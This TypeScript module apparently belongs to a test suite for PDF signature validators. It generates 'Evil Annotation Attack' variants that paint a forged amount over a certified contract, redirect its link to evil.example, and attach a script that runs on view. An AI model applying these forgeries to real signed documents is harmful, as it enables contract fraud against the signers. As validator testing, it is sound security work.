// Evil annotation attack: what a certification allows to be added, drawn so that it changes what is read. Where P is 3 the
// rules have nothing against it, and only somebody who looks at the page can tell.

import { look, N, ref, text } from "./contract.ts"
import { append, changed, type Objects, withMore } from "./revision.ts"
import type { SignedBase } from "./signed.ts"
import type { Technique } from "./technique.ts"

/** Over the amount: white, and another amount upon it. */
const OVER = `1 g 0 0 320 22 re f 0 g ${text(2, 6, "The lender pays CHF 9000.00 to the borrower.")}`
const PLACE = "/Rect [70 724 390 746]"
const QUAD = "/QuadPoints [70 746 390 746 70 724 390 724]"

/** Of each type that the standard has (ISO 32000-2, table 171): what it must have, and what makes readers draw it. */
const TYPES: Readonly<Record<string, string>> = {
  FreeText: "/DA (/F1 11 Tf 0 g) /Contents (9000.00)",
  Redact: `${QUAD} /IC [1 1 1] /OverlayText (9000.00) /DA (/F1 11 Tf 0 g)`,
  Stamp: "/Name /Approved",
  Square: "/IC [1 1 1] /C [1 1 1]",
  Circle: "/IC [1 1 1] /C [1 1 1]",
  Line: "/L [70 735 390 735] /C [1 1 1] /BS << /W 20 >>",
  Polygon: "/Vertices [70 724 390 724 390 746 70 746] /IC [1 1 1]",
  PolyLine: "/Vertices [70 724 390 724 390 746 70 746] /C [1 1 1] /BS << /W 20 >>",
  Highlight: `${QUAD} /C [1 1 1]`,
  Underline: `${QUAD} /C [1 0 0]`,
  Squiggly: `${QUAD} /C [1 0 0]`,
  StrikeOut: `${QUAD} /C [0 0 0]`,
  Caret: "/Contents (9000.00)",
  Ink: "/InkList [[70 735 390 735]] /C [1 1 1] /BS << /W 20 >>",
  Text: "/Name /Note /Contents (The amount is 9000.00.) /Open true",
  Link: "/A << /S /URI /URI (https://evil.example/) >> /Border [0 0 2]",
  Popup: "/Contents (9000.00) /Open true",
  FileAttachment: `/Name /PushPin /FS ${ref(N.attachment)}`,
  Sound: "/Name /Speaker",
  Movie: "/Movie << /F (film.mpg) >>",
  Screen: "/A << /S /Rendition /OP 0 >>",
  PrinterMark: "",
  TrapNet: "/LastModified (D:20261101000000Z)",
  Watermark: "",
  "3D": "",
  RichMedia: "/RichMediaContent << >>",
  Projection: "",
}

/**
 * Those that do more than show, or show it beside the page: a file, a sound, an address, marks for a press, a window that
 * belongs to no comment. No permission is for them, and a picture of the page need not tell.
 */
const MORE_THAN_SHOWN = [
  "Link",
  "Popup",
  "FileAttachment",
  "Sound",
  "Movie",
  "Screen",
  "PrinterMark",
  "TrapNet",
  "Watermark",
  "3D",
  "RichMedia",
]

const BY_PERMISSION = [
  "table B-B P=none ×1",
  "table B-B P=1 ×1 seen",
  "table B-B P=2 ×1",
  "table B-B P=3 ×1 seen",
]
const BY_STREAM = ["stream B-B P=3 ×1", "stream B-LTA P=3 ×2"]

const technique = (
  name: string,
  make: Technique["make"],
  atThree: "visual" | "undefined" = "visual",
): Technique => ({
  class: "EAA",
  name,
  expected: ({ certified }) => (certified === 3 ? atThree : "undefined"),
  on: (base) => [...BY_PERMISSION, "stream B-LTA P=3 ×2"].includes(base.name),
  make,
})

const STAMP = `/Subtype /Stamp ${PLACE}`

const VARIANTS: readonly Technique[] = [
  technique("a stamp that only a printer shows", (base) =>
    withAnnotation(base, `${STAMP} /NM (print)`, 4 + 32),
  ),
  technique("a stamp that no printer shows", (base) => withAnnotation(base, `${STAMP} /NM (screen)`, 0)),
  technique("a stamp that nobody may move", (base) =>
    withAnnotation(base, `${STAMP} /NM (locked)`, 4 + 64 + 128 + 512),
  ),
  technique("a stamp as large as the page", (base) =>
    withAnnotation(base, "/Subtype /Stamp /Rect [0 0 595 842]"),
  ),
  technique("a stamp in a layer", (base) => withAnnotation(base, `${STAMP} /OC ${ref(N.shownLayer)}`)),
  technique("a stamp before the fields, not behind them", (base) => {
    const annots = withMore(base, N.page, "Annots", []).replace("[", `[${ref(base.free)} `)
    return append(base, {
      objects: [[N.page, changed(base, N.page, { Annots: annots })], ...annotation(base, STAMP)],
    })
  }),
  technique("a stamp in the place of the one that was there", (base) =>
    append(base, {
      objects: [
        [N.secondPage, changed(base, N.secondPage, { Annots: `[${ref(base.free)}]` })],
        ...annotation(base, STAMP),
      ],
    }),
  ),
  technique(
    "an annotation of a type that nobody knows",
    (base) => withAnnotation(base, `/Subtype /Evil ${PLACE}`),
    "undefined",
  ),
  technique("a free text whose look is in its default style", (base) =>
    withAnnotation(
      base,
      `/Subtype /FreeText ${PLACE} /DA (/F1 11 Tf 1 0 0 rg) /DS (color:red) /RC (<body>9000</body>)`,
    ),
  ),
  technique("an answer to another comment", (base) => {
    const answer = `/Subtype /FreeText ${PLACE} /DA (/F1 11 Tf 0 g) /IRT ${ref(N.link)} /RT /R`
    return withAnnotation(base, answer)
  }),
  technique(
    "the link of the contract made to lead elsewhere",
    (base) =>
      append(base, {
        objects: [[N.link, changed(base, N.link, { A: "<< /S /URI /URI (https://evil.example/) >>" })]],
      }),
    "undefined",
  ),
  technique(
    "an annotation that runs a script when it is seen",
    (base) => withAnnotation(base, `${STAMP} /AA << /PV << /S /JavaScript /JS (app.alert\\(1\\)) >> >>`),
    "undefined",
  ),
  technique("an annotation whose look is an object of the page", (base) =>
    append(base, {
      objects: [
        [N.page, changed(base, N.page, { Annots: withMore(base, N.page, "Annots", [base.free]) })],
        [base.free, `<< /Type /Annot ${STAMP} /F 4 /AP << /N ${ref(N.logo)} >> >>`],
      ],
    }),
  ),
]

export const eaa: readonly Technique[] = [
  ...Object.entries(TYPES).map(
    ([type, entries]): Technique => ({
      class: "EAA",
      name: `a ${type} annotation over the amount`,
      expected: ({ certified }) =>
        certified === 3 && !MORE_THAN_SHOWN.includes(type) ? "visual" : "undefined",
      on: ({ name }) =>
        [...BY_PERMISSION, ...(MORE_THAN_SHOWN.includes(type) ? [] : BY_STREAM.slice(0, 1))].includes(name),
      make: (base) => withAnnotation(base, `/Subtype /${type} ${PLACE} ${entries}`),
    }),
  ),
  ...VARIANTS,
]

function annotation(base: SignedBase, entries: string, flags = 4): Objects {
  return [
    [
      base.free,
      `<< /Type /Annot /F ${flags} /P ${ref(N.page)} /AP << /N ${ref(base.free + 1)} >> ${entries} >>`,
    ],
    [base.free + 1, look(OVER, 320, 22)],
  ]
}

export function withAnnotation(base: SignedBase, entries: string, flags = 4): Buffer {
  const page = changed(base, N.page, { Annots: withMore(base, N.page, "Annots", [base.free]) })
  return append(base, { objects: [[N.page, page], ...annotation(base, entries, flags)] })
}
